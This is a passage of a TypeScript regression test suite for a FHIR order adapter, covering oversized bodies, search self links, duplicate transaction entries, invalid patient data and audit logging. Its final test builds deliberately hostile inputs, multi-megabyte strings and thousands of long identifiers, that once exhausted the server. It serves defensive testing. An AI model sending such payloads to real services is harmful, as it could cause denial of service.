    const raw = await db.query<{ raw: Buffer; message_type: string }>(
      `SELECT raw, message_type FROM inbound_messages ORDER BY received_at DESC LIMIT 1`,
    );
    expect(raw.rows[0]!.message_type).toBe('POST /fhir/Observation');
    expect(JSON.parse(raw.rows[0]!.raw.toString('utf8'))).toMatchObject({
      resourceType: 'Observation',
    });
  });

  it('a body over FHIR_MAX_BODY_BYTES gets its 413 OperationOutcome, and the connection goes on', async () => {
    // The body was left unread once the limit was passed, and the socket closed over it: the
    // sender (an EHR's interface engine, a Subscription deliverer) often saw a connection reset
    // (TCP RST) instead of the 413, never learning why, and resent. Over one keep-alive
    // connection: the 6 MB POST, then a GET; both answers must come.
    const { hostname, port } = new URL(adapter.httpUrl);
    const body = Buffer.alloc(6 * 1024 * 1024, 'x');
    const answers = await new Promise<string>((resolve, reject) => {
      const socket = connect(Number(port), hostname);
      let text = '';
      socket.setEncoding('latin1');
      socket.on('data', (d: string) => {
        text += d;
        if (/HTTP\/1\.1 200[\s\S]*"CapabilityStatement"/.test(text)) socket.end();
      });
      socket.on('error', (e) => reject(new Error(`${e.message} after: ${text.slice(0, 300)}`)));
      socket.on('close', () => resolve(text));
      socket.write(
        `POST /fhir/ServiceRequest HTTP/1.1\r\nHost: ${hostname}\r\n` +
          `Authorization: Bearer ${TEST_TOKENS.sender}\r\nContent-Type: application/fhir+json\r\n` +
          `Content-Length: ${body.length}\r\n\r\n`,
      );
      socket.write(body);
      socket.write(`GET /fhir/metadata HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`);
    });
    expect(answers).toMatch(/^HTTP\/1\.1 413 /);
    expect(answers).toContain('"OperationOutcome"');
    expect(answers).toMatch(/HTTP\/1\.1 200 [\s\S]*"CapabilityStatement"/);
  });

  it("a Task search's self link names only the parameters it used; the others are named as ignored, and refused under Prefer: handling=strict", async () => {
    // GET /fhir/Task?based-on=…&status=cancelled was answered with the order's Task whatever
    // its status, under a self link spelling status=cancelled (and _count=-1) as if applied:
    // a client asking for the cancelled Tasks took an in-progress one for cancelled
    // (R4 search.html: the self link holds the parameters used, an unknown one is ignored).
    const created = await call(
      adapter,
      'POST',
      '/fhir/ServiceRequest',
      chestCtRequest('TSK-SELF-1'),
    );
    expect(created.status).toBe(201);
    const basedOn = `ServiceRequest/${created.body.id as string}`;
    const query = `based-on=${encodeURIComponent(basedOn)}&status=cancelled&_count=-1`;
    const found = await call(adapter, 'GET', `/fhir/Task?${query}`);
    expect(found.status).toBe(200);
    const bundle = found.body as { link: Array<{ relation: string; url: string }>; entry: Json[] };
    const self = new URL(bundle.link.find((l) => l.relation === 'self')!.url);
    expect([...self.searchParams.entries()]).toEqual([['based-on', basedOn]]);
    expect(self.pathname).toBe('/fhir/Task');
    const matches = bundle.entry.filter((e) => (e.search as Json).mode === 'match');
    expect(matches).toHaveLength(1);
    const outcome = bundle.entry.find((e) => (e.search as Json).mode === 'outcome');
    expect(outcome?.resource).toMatchObject({ resourceType: 'OperationOutcome' });
    expect(expressions(outcome?.resource as Json).sort()).toEqual(['_count', 'status']);

    const strict = await call(adapter, 'GET', `/fhir/Task?${query}`, undefined, {
      prefer: 'handling=strict',
    });
    expect(strict.status).toBe(400);
    expect(expressions(strict.body).sort()).toEqual(['_count', 'status']);
  });

  it('a transaction creating one order twice (two ServiceRequest entries under one placer number) is 422 on the second, nothing ordered, kept', async () => {
    // The second entry (priority stat) was answered "200 OK" as the first's resend inside the
    // same transaction and dropped: the order ran routine, and the sender read the stat one
    // as accepted (R4 http.html#trules: identities that overlap fail the transaction).
    for (const conditional of [true, false]) {
      const tag = `TXDUP-${conditional ? 'C' : 'P'}`;
      const b = chestCtTransaction(tag);
      const first = b.entry.findIndex(
        (e) => (e.resource as Json).resourceType === 'ServiceRequest',
      );
      const again = structuredClone(b.entry[first]!) as Json & { resource: Json; request: Json };
      again.fullUrl = 'urn:uuid:0f5d2c4e-3b1a-4c6d-9e8f-7a6b5c4d3e2f';
      again.resource.priority = 'stat';
      if (!conditional) {
        delete again.request.ifNoneExist;
        delete (b.entry[first]!.request as Json).ifNoneExist;
      }
      b.entry.push(again);
      const res = await call(adapter, 'POST', '/fhir', b);
      expect(res.status).toBe(422);
      expect(expressions(res.body)).toEqual([
        `Bundle.entry[${b.entry.length - 1}].resource.identifier`,
      ]);
      expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
      expect(await ordersWith(`ORD-2013-0508-77-${tag}`)).toEqual([]);
    }
  });

  it('a subject read from the EHR that breaks R4 (birthDate 1970-02-30, gender F) is 422 on ServiceRequest.subject.resolve()…, no order; a valid one orders as before', async () => {
    // The same Patient contained or in a Bundle was refused on its element; read from the EHR
    // it was never validated, and the order was made with birthDate 1970-02-30 and sex F
    // (no administrative-gender code), sent on upstream and into the ORU's PID.
    await ehr.seed({
      resourceType: 'Patient',
      id: 'ehr-bad-dates',
      identifier: [{ system: 'urn:oid:1.2.36.146.595.217.0.1', value: 'EHR-BAD-1' }],
      birthDate: '1970-02-30',
      gender: 'F',
    } as unknown as Patient);
    const res = await call(
      adapter,
      'POST',
      '/fhir/ServiceRequest',
      chestCtRequest('EHR-PAT-BAD', { subject: { reference: 'Patient/ehr-bad-dates' } }),
    );
    expect(res.status).toBe(422);
    expect(expressions(res.body).sort()).toEqual([
      'ServiceRequest.subject.resolve().birthDate',
      'ServiceRequest.subject.resolve().gender',
    ]);
    expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
    expect(await ordersWith('EHR-PAT-BAD')).toEqual([]);
    const ok = await call(adapter, 'POST', '/fhir/ServiceRequest', chestCtRequest('EHR-PAT-OK'));
    expect(ok.status).toBe(201);
  });

  it('a body over FHIR_MAX_BODY_BYTES is kept for the audit log (its first 64 KiB), as every other refusal is', async () => {
    // The 413 was answered and nothing kept: the analyst looking for why an EHR's order never
    // came found no trace of it.
    const note = 'x'.repeat(6 * 1024 * 1024);
    for (const [method, path, body] of [
      ['POST', '/fhir/ServiceRequest', chestCtRequest('TOO-LARGE-1', { note: [{ text: note }] })],
      [
        'POST',
        '/fhir',
        {
          resourceType: 'Bundle',
          type: 'batch',
          entry: [{ resource: { resourceType: 'Basic', x: note } }],
        },
      ],
      // a Subscription notification and a classic rest-hook PUT from the EHR: the same
      [
        'POST',
        '/fhir/subscription-notifications',
        { resourceType: 'Bundle', type: 'history', entry: [], note },
      ],
      [
        'PUT',
        '/fhir/subscription-notifications/ServiceRequest/too-large-1',
        chestCtRequest('TOO-LARGE-2', { note: [{ text: note }] }),
      ],
    ] as const) {
      const res = await call(adapter, method, path, body as Json);
      expect(res.status).toBe(413);
      const kept = await db.query<{ outcome: string; response_code: string; raw: Buffer }>(
        `SELECT outcome, response_code, raw FROM inbound_messages ORDER BY received_at DESC LIMIT 1`,
      );
      expect(kept.rows[0]).toMatchObject({ outcome: 'rejected', response_code: '413' });
      expect(kept.rows[0]!.raw).toHaveLength(64 * 1024);
      // this body's head, not an earlier refusal's
      expect(kept.rows[0]!.raw.toString('latin1')).toBe(JSON.stringify(body).slice(0, 64 * 1024));
    }
  });

  it("a Task search based-on another server's ServiceRequest finds none of ours, even under the same id", async () => {
    // based-on=http://other.example/fhir/ServiceRequest/<our id> found our Task: the search
    // looked at the id alone, so a reference to another server's request named ours.
    const created = await call(
      adapter,
      'POST',
      '/fhir/ServiceRequest',
      chestCtRequest('TSK-ORIGIN-1'),
    );
    const id = created.body.id as string;
    const count = async (basedOn: string) =>
      (
        (await call(adapter, 'GET', `/fhir/Task?based-on=${encodeURIComponent(basedOn)}`)).body
          .entry as Json[]
      ).filter((e) => (e.search as Json).mode === 'match').length;
    expect(await count(`http://other.example/fhir/ServiceRequest/${id}`)).toBe(0);
    expect(await count(`${adapter.httpUrl}/elsewhere/ServiceRequest/${id}`)).toBe(0);
    expect(await count(`${adapter.httpUrl}/fhir/ServiceRequest/${id}`)).toBe(1);
    // as a client behind a TLS proxy writes it
    const https = adapter.httpUrl.replace(/^http:/, 'https:');
    expect(await count(`${https}/fhir/ServiceRequest/${id}`)).toBe(1);
    expect(await count(`ServiceRequest/${id}`)).toBe(1);
    expect(await count(id)).toBe(1);
  });

  it('a conditional reference that asks for a part of the result (_elements, _summary, _format, _count) is 422 not-supported on the element, never sent to the EHR', async () => {
    // The EHR was searched with the parameters as written: `_elements=identifier` answers a
    // Patient without name, birth date or sex (SUBSETTED), taken as the whole patient and
    // ordered without them; `_format=xml` an XML page read as no answer (503 at every resend);
    // `_summary=count` no entry ("matches nothing"). They choose how a result is shown, not
    // which resource is meant (R4 search.html#return).
    for (const extra of ['_elements=identifier', '_summary=true', '_format=xml', '_count=5']) {
      const before = ehr.requests.length;
      const res = await call(
        adapter,
        'POST',
        '/fhir/ServiceRequest',
        chestCtRequest(`COND-RES-${extra.split('=')[0]}`, {
          subject: {
            reference: `Patient?identifier=http://nema.org/examples/patients|MINT1234&${extra}`,
          },
        }),
      );
      expect(res.status).toBe(422);
      expect(expressions(res.body)).toEqual(['ServiceRequest.subject']);
      expect((res.body.issue as Array<{ code: string }>)[0]!.code).toBe('not-supported');
      expect(ehr.requests.slice(before).filter((r) => r.url.includes('/Patient?'))).toEqual([]);
      expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
    }
  });

  it('a string where R4 wants an object (a contained Patient name, a code, identifiers) is 422 on those elements in well under a second, at most 100 issues, /health answering', async () => {
    // Before: the validator named every character of such a string an unknown property. A
    // 4 MB name was 500 "Maximum call stack size exceeded" after seconds; 15,000 identifiers of
    // 250 characters (3.8 MB) held the event loop for about 20 s and built 3.8 million issues.
    const patient = fhirFixture('us-core-patient-example') as Json;
    const bodies: Array<[string, Json, string[]]> = [
      [
        'name',
        chestCtRequest('STR-OBJ-1', {
          subject: { reference: '#pat' },
          contained: [{ ...patient, id: 'pat', name: 'x'.repeat(4_000_000) }],
        }),
        ['ServiceRequest.contained[0].name'],
      ],
      [
        'code',
        chestCtRequest('STR-OBJ-2', { code: 'Thorax CT '.repeat(400_000) }),
        ['ServiceRequest.code'],
      ],
      [
        'identifiers',
        chestCtRequest('STR-OBJ-3', {
          identifier: Array.from({ length: 15_000 }, (_, i) => `${i} ${'A'.repeat(244)}`),
        }),
        Array.from({ length: 99 }, (_, i) => `ServiceRequest.identifier[${i}]`),
      ],
    ];
    for (const [what, body, named] of bodies) {
      const started = Date.now();
      const { result: answer, worstHealthMs } = await watchingHealth(adapter.httpUrl, () =>
        call(adapter, 'POST', '/fhir/ServiceRequest', body),
      );
      const ms = Date.now() - started;
      console.log(
        `HOSTILE-FHIR string-for-object ${what} ${JSON.stringify({ ms, worstHealthMs })}`,
      );
      expect(answer.status).toBe(422);
      const issues = (answer.body as { issue: Array<{ severity: string }> }).issue;
      expect(issues.length).toBeLessThanOrEqual(100);
      expect(expressions(answer.body).slice(0, named.length)).toEqual(named);
      expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
      expect(worstHealthMs).toBeLessThan(3_000);
    }
    for (const placer of ['STR-OBJ-1', 'STR-OBJ-2']) expect(await ordersWith(placer)).toEqual([]);
  });
});
